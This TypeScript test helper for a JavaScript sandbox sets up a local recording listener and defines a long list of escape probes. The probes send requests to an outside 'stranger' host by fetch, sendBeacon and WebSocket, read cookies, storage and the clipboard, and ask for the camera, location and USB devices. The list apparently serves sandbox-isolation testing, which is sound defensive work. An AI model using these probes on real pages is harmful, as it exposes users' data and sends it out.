// What hostile JavaScript would try from inside the sandbox, and a server that records escapes.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface Listener {
  url: string;
  /** Method and address of every request, and of every socket opened. */
  heard: string[];
  stop(): Promise<void>;
}

/** A server that accepts everything. */
export async function startListener(): Promise<Listener> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('access-control-allow-headers', '*');
    response.setHeader('content-type', request.url === '/' ? 'text/html' : 'text/javascript');
    response.end('');
  });
  server.on('upgrade', (request, socket) => {
    heard.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/`,
    heard,
    stop: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/**
 * Source of a function `breakOut(own, foreign)` that tries each escape. It resolves with `reached`, `silent` (no
 * result in time) or the error's name, by escape name. `own` is the app's address, `foreign` a listener's.
 */
export const BREAK_OUT = `async function breakOut(own, foreign) {
  const event = (target, good, bad) => new Promise((resolve, reject) => {
    for (const name of good) target['on' + name] = resolve;
    for (const name of bad) target['on' + name] = () => reject(new Error(name));
  });
  const worker = (address, Kind = Worker) => {
    const made = new Kind(address);
    return event(Kind === Worker ? made : made.port, ['message'], []);
  };
  const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const socket = (make) => event(make(), ['open'], ['error', 'close']);
  const ways = {
    'fetch of the app': () => fetch(own + 'index.html?fetch'),
    'fetch of a stranger': () => fetch(foreign + 'fetch'),
    'blind fetch of a stranger': () => fetch(foreign + 'blind', { mode: 'no-cors', method: 'POST', body: 'x' }),
    'fetch that outlives': () => fetch(foreign + 'keepalive', { keepalive: true, method: 'POST', body: 'x' }),
    'fetch of a data address': () => fetch('data:,x'),
    'fetch of a blob': () => fetch(blob('x')),
    XMLHttpRequest: () => { const x = new XMLHttpRequest(); x.open('GET', foreign + 'xhr'); x.send(); return event(x, ['load'], ['error']); },
    'synchronous XMLHttpRequest': () => { const x = new XMLHttpRequest(); x.open('GET', own + 'index.html?xhr', false); x.send(); },
    WebSocket: () => socket(() => new WebSocket(foreign.replace('http', 'ws') + 'ws')),
    'WebSocket of the app': () => socket(() => new WebSocket(own.replace('http', 'ws') + 'ws')),
    WebSocketStream: () => new WebSocketStream(foreign.replace('http', 'ws') + 'wss').opened,
    EventSource: () => socket(() => new EventSource(foreign + 'events')),
    WebTransport: () => new WebTransport(foreign.replace('http:', 'https:') + 'wt').ready,
    sendBeacon: () => { if (!navigator.sendBeacon(foreign + 'beacon', 'x')) throw new Error('refused'); },
    'import of the app': () => import(own + 'sw.js?import'),
    'import of a stranger': () => import(foreign + 'import.js'),
    'import of a blob': () => import(blob('export default 1')),
    'import of a data address': () => import('data:text/javascript,export default 1'),
    'importScripts of a stranger': () => importScripts(foreign + 'scripts.js'),
    'importScripts of the app': () => importScripts(own + 'sw.js?scripts'),
    'importScripts of a data address': () => importScripts('data:text/javascript,1'),
    'worker of a blob': () => worker(blob('postMessage(1)')),
    'worker of a data address': () => worker('data:text/javascript,postMessage(1)'),
    'worker of the app': () => worker(own + 'sw.js?worker'),
    'worker of a stranger': () => worker(foreign + 'worker.js'),
    'shared worker': () => worker(blob('onconnect = (e) => e.ports[0].postMessage(1)'), SharedWorker),
    'font of a stranger': () => new FontFace('x', 'url(' + foreign + 'font)').load(),
    IndexedDB: () => event(indexedDB.open('perilune'), ['success', 'upgradeneeded'], ['error', 'blocked']),
    'list of databases': () => indexedDB.databases(),
    caches: () => caches.open('perilune'),
    'list of caches': () => caches.keys(),
    'private files': () => navigator.storage.getDirectory(),
    'storage estimate': () => navigator.storage.estimate(),
    'storage buckets': () => navigator.storageBuckets.open('x'),
    'file system of old': () => new Promise((yes, no) => webkitRequestFileSystem(0, 1024, yes, no)),
    'a lock': () => navigator.locks.request('perilune-merge', { ifAvailable: true }, () => 1),
    'list of locks': () => navigator.locks.query(),
    'another context over a channel': () => { const c = new BroadcastChannel('perilune'); setInterval(() => c.postMessage('from inside'), 20); return event(c, ['message'], []); },
    'local storage': () => localStorage.length,
    'session storage': () => sessionStorage.length,
    cookies: () => document.cookie,
    'cookie store': () => cookieStore.getAll(),
    'the page': () => parent.document.title,
    'the top': () => top.location.href,
    'the opener': () => opener.document.title,
    'the frame element': () => frameElement.id,
    'moving the page': () => { top.location = foreign + 'moved'; return new Promise(() => {}); },
    'a new window': () => { if (!open(foreign + 'popup')) throw new Error('refused'); },
    'a notification': () => { new Notification('x'); if (Notification.permission !== 'granted') throw new Error('refused'); },
    'a push subscription': () => registration.pushManager.subscribe(),
    'a service worker': () => navigator.serviceWorker.register(own + 'sw.js'),
    'the place': () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)),
    'the clipboard': () => navigator.clipboard.readText(),
    'the camera': () => navigator.mediaDevices.getUserMedia({ video: true }),
    'USB devices': () => navigator.usb.requestDevice({ filters: [] }),
    'known USB devices': () => navigator.usb.getDevices(),
    'serial ports': () => navigator.serial.getPorts(),
    'shared memory': () => { if (!(new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }).buffer.constructor.name === 'SharedArrayBuffer')) throw new Error('refused'); const { port1 } = new MessageChannel(); port1.postMessage(new SharedArrayBuffer(8)); if (!self.crossOriginIsolated) throw new Error('not isolated'); },
  };
  const seen = {};
  await Promise.all(Object.entries(ways).map(async ([name, way]) => {
    const late = new Promise((resolve) => setTimeout(resolve, 1200, 'silent'));
    const tried = (async () => { await way(); return 'reached'; })().catch((error) => (error && error.name) || 'refused');
    seen[name] = await Promise.race([tried, late]);
  }));
  return seen;
}`;
